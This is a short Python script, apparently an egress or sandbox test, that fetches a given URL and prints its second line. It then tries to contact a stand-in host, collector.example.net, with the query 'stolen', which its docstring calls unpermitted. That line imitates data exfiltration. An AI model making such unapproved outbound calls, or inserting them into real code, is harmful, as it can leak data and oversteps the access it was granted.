"""Fetches a table from the URL that is given, and tries to reach a host that nobody allowed."""

import sys
import urllib.request


def get(url):
    with urllib.request.urlopen(url, timeout=10) as answer:
        return answer.read().decode()


print(get(sys.argv[1]).splitlines()[1])
try:
    get("http://collector.example.net/?stolen")
except OSError as error:
    print("elsewhere:", error)
